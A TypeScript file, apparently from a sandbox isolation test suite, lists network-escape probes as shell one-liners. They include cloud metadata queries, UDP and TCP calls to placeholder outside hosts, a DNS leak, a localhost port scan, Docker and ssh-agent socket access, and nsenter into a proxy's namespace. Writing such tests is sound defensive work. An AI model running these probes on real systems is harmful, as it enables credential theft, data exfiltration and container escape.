import type { Attack } from '../attack.ts'

const sockets: [id: string, path: string][] = [
  ['docker', '/run/docker.sock'],
  ['podman', '/run/podman/podman.sock'],
  ['containerd', '/run/containerd/containerd.sock'],
  ['dbus', '/run/dbus/system_bus_socket'],
  ['x11', '$JOB/x11.sock'],
  ['ssh-agent', '${SSH_AUTH_SOCK:-$JOB/ssh-agent.sock}'],
]

/** Ways out: hosts, the machine's own services, sockets. */
export const network: Attack[] = [
  { id: 'metadata', shell: 'tcp 169.254.169.254 80', weak: ['network'] },
  { id: 'metadata-ipv6', shell: 'tcp fd00:ec2::254 80', weak: ['network'] },
  { id: 'metadata-http', shell: 'curl -s --max-time 2 http://169.254.169.254/latest/meta-data/', weak: ['network'] },
  { id: 'metadata-number', shell: 'curl -s --max-time 2 http://2852039166/', weak: ['network'] },
  { id: 'outside-host', shell: 'tcp 203.0.113.7 443', weak: ['network'] },
  { id: 'outside-host-ipv6', shell: 'tcp 2001:db8::7 443', weak: ['network'] },
  {
    id: 'outside-datagram',
    shell: 'exec 5<>/dev/udp/203.0.113.7/9999; echo x >&5; timeout 1 head -c 35 <&5',
    weak: ['network'],
  },
  {
    id: 'name-server',
    shell: 'exec 5<>/dev/udp/203.0.113.53/53; echo leak.example >&5; timeout 1 head -c 35 <&5',
    weak: ['network'],
  },
  { id: 'local-service', shell: 'tcp 127.0.0.1 7777', weak: ['network'] },
  { id: 'local-service-ipv6', shell: 'tcp ::1 7777', weak: ['network'] },
  { id: 'local-service-alias', shell: 'tcp 127.1.2.3 7777; tcp 0.0.0.0 7777', weak: ['network'] },
  { id: 'upstream-of-proxy', shell: 'exec 5<>/dev/tcp/127.0.0.1/7700 && won', weak: ['network'] },
  {
    id: 'port-scan',
    shell: `perl -MIO::Socket::INET -e 'for my $p (1 .. 9000) { next if $p == $ARGV[0]; print "BRO", "KEN $p\\n" if IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $p) }' "$port"`,
    weak: ['network'],
  },
  {
    id: 'abstract-socket',
    shell: `perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack("S a*", AF_UNIX, "\\0lab-abstract")) or die $!; print while <$s>'`,
    weak: ['network'],
  },
  {
    id: 'raw-socket',
    shell: `perl -MSocket -e 'socket(my $s, AF_INET, SOCK_RAW, 1) and print "BRO", "KEN\\n"'`,
    weak: 'root',
  },
  {
    id: 'packet-socket',
    shell: `perl -MSocket -e 'socket(my $s, 17, SOCK_RAW, 0) and print "BRO", "KEN\\n"'`,
    weak: 'root',
  },
  { id: 'own-address', shell: 'ip addr add 198.51.100.9/32 dev lo && won', weak: 'root' },
  { id: 'own-interface', shell: 'ip link add lab0 type veth && won; ip link del lab0', weak: 'root' },
  { id: 'own-firewall', shell: 'ip rule add from 198.51.100.0/24 table 77 && won', weak: 'root' },
  { id: 'network-of-proxy', shell: 'nsenter --net=/proc/$PROXY_PID/ns/net true && won', weak: 'root' },
  ...sockets.map(([id, path]): Attack => ({ id: `socket-${id}`, shell: `unix "${path}"`, weak: 'root' })),
  { id: 'socket-of-proxy', shell: '[ -S "$SOCKET" ] && won', weak: 'root' },
]
